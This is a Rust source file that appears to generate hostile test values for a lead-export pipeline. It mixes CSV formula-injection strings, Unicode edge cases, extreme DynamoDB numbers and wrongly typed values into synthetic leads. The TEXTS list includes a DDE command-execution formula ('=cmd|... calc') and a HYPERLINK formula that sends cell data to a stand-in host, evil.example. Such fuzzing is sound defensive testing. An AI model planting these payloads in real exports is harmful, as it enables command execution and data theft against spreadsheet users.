//! Values that have broken exports: of every spreadsheet, parser and alphabet, and of no type one would expect.

use std::collections::BTreeMap;

use lead_export_core::fields::{CustomKind, Source};
use lead_export_core::lead::Value;

use super::dice::Dice;
use super::{list, text};

/// Texts that a careless writer or reader of CSV gets wrong.
const TEXTS: [&str; 34] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "'=1+1",
    "''quoted''",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "\"",
    "\"\"",
    "a \"quoted\" word",
    "a,b;c\td",
    "two\r\nlines",
    "one\nline\n",
    " leading and trailing ",
    "👩‍👩‍👧‍👦 and 🏳️‍🌈",
    "\u{202e}right to left\u{202c}",
    "שלום עולם",
    "e\u{301}\u{323}\u{feff}",
    "NULL",
    "00123",
    "1E5",
    "MAR1",
    "=\"00123\"",
];

/// Numbers at the ends of what DynamoDB holds (38 digits, Developer Guide, "Constraints: Number").
const NUMBERS: [&str; 7] = [
    "99999999999999999999999999999999999999",
    "-99999999999999999999999999999999999999",
    "0.0000000000000000000000000000000000001",
    "12345678901234567890.123456789012345678",
    "9007199254740993",
    "-0.5",
    "0",
];

/// The fields of text that are spoilt.
const SPOILT: [&str; 10] = [
    "first_name",
    "last_name",
    "email",
    "phone",
    "address",
    "city",
    "zip",
    "company_name",
    "company_summary",
    "job_title",
];

/// Bytes of the longest text: more than an Excel cell holds, and a fourth of a DynamoDB item.
const LONG_BYTES: usize = 100 * 1024;

/// Replaces a few values by hostile ones, in some leads.
pub(super) fn spoil(values: &mut BTreeMap<String, Value>, source: &Source, dice: &mut Dice) {
    if dice.one_in(15) {
        let key = field(source, dice);
        values.insert(key, text(dice.pick(&TEXTS)));
    }
    if dice.one_in(60) {
        let numbers = of_kind(source, CustomKind::Number);
        if !numbers.is_empty() {
            let key = dice.pick(&numbers).to_owned();
            let number = dice.pick(&NUMBERS).to_owned();
            values.insert(key, Value::Number(number));
        }
    }
    if dice.one_in(80) {
        let key = dice.pick(&["emails", "phones", "skills", "campaign"]);
        let known = match key {
            "skills" => source.people,
            "campaign" => source.attributes.iter().any(|field| field.key == key),
            _ => true,
        };
        if known {
            let items = [dice.pick(&TEXTS), "", dice.pick(&TEXTS)];
            values.insert(key.to_owned(), list(items));
        }
    }
    if dice.one_in(300) {
        let key = field(source, dice);
        values.insert(key, of_a_wrong_type(dice));
    }
    if dice.one_in(400) {
        for key in of_kind(source, CustomKind::Number) {
            values.insert(key.to_owned(), text("about 50k"));
        }
        for key in of_kind(source, CustomKind::Boolean) {
            values.insert(key.to_owned(), text("yes, please"));
        }
    }
    if dice.one_in(4000) {
        let word = dice.pick(&["long ", "\"", "é", "x,\r\n"]);
        let key = field(source, dice);
        values.insert(key, text(word.repeat(LONG_BYTES / word.len())));
    }
}

/// The key of a field of text that the source has.
fn field(source: &Source, dice: &mut Dice) -> String {
    let mut keys: Vec<&str> = SPOILT
        .into_iter()
        .filter(|key| source.people || !lead_export_core::fields::is_people(key))
        .collect();
    keys.extend(of_kind(source, CustomKind::Text));
    dice.pick(&keys).to_owned()
}

fn of_kind(source: &Source, kind: CustomKind) -> Vec<&str> {
    let fields = source.custom.iter().filter(|field| field.kind == kind);
    fields.map(|field| field.key.as_str()).collect()
}

fn of_a_wrong_type(dice: &mut Dice) -> Value {
    match dice.below(6) {
        0 => Value::Number("42".into()),
        1 => Value::Bool(true),
        2 => Value::Binary(vec![0, 159, 146, 150]),
        3 => list(["a", "b"]),
        4 => Value::Set(vec![Value::Number("1".into()), Value::Number("2.5".into())]),
        _ => {
            let inner = ("b".to_owned(), Value::List(vec![Value::Null, text("=1")]));
            Value::Map(BTreeMap::from([inner]))
        }
    }
}
